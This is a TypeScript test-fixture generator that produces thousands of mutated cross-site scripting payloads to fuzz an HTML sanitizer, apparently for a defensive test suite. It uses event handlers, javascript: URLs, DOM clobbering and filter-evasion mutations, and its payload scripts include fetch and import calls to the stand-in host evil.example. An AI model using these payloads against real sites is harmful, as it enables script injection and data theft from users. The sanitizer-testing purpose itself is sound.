/**
 * Thousands of texts that want to run in somebody's browser, or to load something from another host: vectors.ts by mutations,
 * the same each time. Each carries a mark by which a page is seen to hold it. Refuses chance: what fails once fails again.
 */
import { readFileSync } from 'node:fs'
import { corpus } from '../corpora.ts'
import { addressed, clobbered, handlers, schemes, styles, tags } from './vectors.ts'
import { breakouts, whole, wrappers } from './vectors-whole.ts'

/** Nobody answers there, and nobody may be asked. */
export const otherHost = 'evil.example'
/** What a payload runs when it can: a setter that tells, or a dialog. */
const scripts = ['__ran=1', 'alert(1)', 'top.__ran=2', "fetch('//evil.example/f')", "import('//evil.example/m')"]
export const markOf = (n: number) => `mk${String(n).padStart(4, '0')}q`
export const marks = /mk\d{4}q/g

export type Payload = { mark: string; text: string }

/** Mulberry32. */
function chanceOf(seed: number) {
  let state = seed
  return (below: number) => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) % below
  }
}
type Chance = ReturnType<typeof chanceOf>
const one = <T>(of: readonly T[], chance: Chance): T => of[chance(of.length)]!
const entity = (letter: string, way: number) => {
  const code = letter.codePointAt(0)!
  return [`&#${code};`, `&#x${code.toString(16)};`, `&#${String(code).padStart(7, '0')}`, `&#X${code.toString(16)}`][
    way
  ]!
}

/** Each makes another text of the same kind. */
const mutations: ((text: string, chance: Chance) => string)[] = [
  text => text,
  // case
  (text, chance) => text.replace(/[a-z]/gi, each => (chance(2) ? each.toUpperCase() : each.toLowerCase())),
  // entities in what an attribute says
  (text, chance) =>
    text.replace(/=(["'])([^"']{2,})\1/g, (_, quote: string, value: string) => {
      const way = chance(4)
      return `=${quote}${[...value].map(each => (chance(3) ? each : entity(each, way))).join('')}${quote}`
    }),
  // blanks that are none
  (text, chance) => text.replaceAll(' ', () => one(['/', '\t', '\n', '\f', '\r', ' / ', '  '], chance)),
  (text, chance) =>
    text.replace(/<(\w)/g, (_, letter: string) => `<${one(['', '', '\0', '/', '\n', '\u00a0'], chance)}${letter}`),
  // quotes that break
  (text, chance) => text.replace(/["']/g, each => one(['`', '"', "'", '', each, each], chance)),
  (text, chance) =>
    text.replace(/=(["'])/g, (_, quote: string) => `=${one(['', ' ', '\n', '"', "''"], chance)}${quote}`),
  // nesting
  text => text.replace(/<(script|img|svg|iframe|style)/i, '<$1<$1'),
  text => text.replace(/<(\w+)/, '<$1 $1="<$1>"'),
  (text, chance) => `${'<div>'.repeat(chance(40))}${text}`,
  (text, chance) => one(wrappers, chance).replaceAll('X', () => text),
  (text, chance) => one(wrappers, chance).replaceAll('X', () => one(wrappers, chance).replaceAll('X', () => text)),
  // ends that are missing, or too many
  (text, chance) => text.slice(0, Math.max(6, text.length - 1 - chance(4))),
  text => text.replace(/>/, '>>').replace(/<\/\w+>$/, ''),
  text => `${text}<!--`,
  // what is inside of words
  (text, chance) =>
    text.replace(/(script|onerror|onload|href|src)/i, each =>
      each.split('').join(one(['\0', '&#8203;', '\u00ad', '<!---->'], chance)),
    ),
  // said twice
  text => text.replace(/ (on\w+)=/i, ' $1=x $1='),
  text => text.replace(/ (href|src|style)=/i, ' $1="https://fine.example" $1='),
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => text.replaceAll('<', '%3c').replaceAll('>', '%3e'),
  text => text.replaceAll('<', '\\u003c'),
]

function filled(text: string, chance: Chance): string {
  const inner = one(whole, chance)
  return text
    .replaceAll('X', () => inner)
    .replaceAll('HOST', otherHost)
    .replaceAll('RUN', () => one(scripts, chance))
}

/** What everything begins from, each vector as it was found. */
function bases(chance: Chance): string[] {
  const found = [...whole]
  for (const handler of handlers) found.push(`<${one(tags, chance)} ${handler}=RUN src=x tabindex=0 autofocus open>x`)
  for (const tag of tags)
    found.push(
      `<${tag} ${one(handlers, chance)}="RUN" style="${one(styles, chance)}" id="${one(clobbered, chance)}">x</${tag}>`,
    )
  for (const scheme of schemes)
    for (let n = 0; n < 6; n++) found.push(one(addressed, chance).replaceAll('U', () => scheme))
  for (const place of addressed)
    for (let n = 0; n < 4; n++) found.push(place.replaceAll('U', () => one(schemes, chance)))
  for (const wrapper of wrappers)
    for (let n = 0; n < 5; n++) found.push(wrapper.replaceAll('X', () => one(whole, chance)))
  for (const style of styles)
    found.push(`<p style="${style}">x</p>`, `<td style='${style}'>x`, `<style>p{${style}}</style><p>x</p>`)
  for (const name of clobbered)
    found.push(
      `<a id="${name}" href="javascript:RUN">x</a><a id=${name} name=x>y</a>`,
      `<form name="${name}"><input name=innerHTML><input name="attributes"></form>`,
      `<img name=${name} src=x onerror=RUN>`,
    )
  found.push(...breakouts)
  return found
}

function theCorpus(): string[] {
  const file = corpus('html-sanitizing.json')
  return file ? (JSON.parse(readFileSync(file, 'utf8')) as { input: string }[]).map(({ input }) => input) : []
}

/** All of them: those of the corpus where it is, and `many` of our own, no two alike. */
export function payloads(many = 2400): Payload[] {
  const chance = chanceOf(20_261_122)
  const own = new Set<string>()
  const from = bases(chance)
  for (const base of from) own.add(filled(base, chance))
  while (own.size < many) {
    let text = filled(one(from, chance), chance)
    for (let times = 1 + chance(3); times > 0; times--) text = one(mutations, chance)(text, chance)
    if (text.length < 2000) own.add(text.toWellFormed())
  }
  return [...theCorpus(), ...own].map((text, n) => ({ mark: markOf(n), text }))
}

/** Evenly from the whole, so that few are of every kind. */
export function some(all: readonly Payload[], many: number): Payload[] {
  const step = all.length / Math.min(many, all.length)
  return Array.from({ length: Math.min(many, all.length) }, (_, n) => all[Math.floor(n * step)]!)
}

/** Ends what the one before has left open, as far as anything does. */
const ends =
  '--></title></textarea></style></script></noscript></template></select></iframe></svg></math></table></form>'

/** Many in one text, each followed by its mark. */
export const packed = (few: readonly Payload[]) =>
  few.map(({ text, mark }) => `${text}"'>${ends}<p>${mark}</p>\n`).join('')
export const pages = <T>(all: readonly T[], each: number): T[][] =>
  Array.from({ length: Math.ceil(all.length / each) }, (_, n) => all.slice(n * each, n * each + each))
/** One line, as subjects, names and fields are. */
export const asLine = ({ mark, text }: Payload, most = 180) =>
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what a line has none of
  `${mark} ${text.replace(/[\x00-\x1f\x7f]+/g, ' ')}`.slice(0, most).toWellFormed()
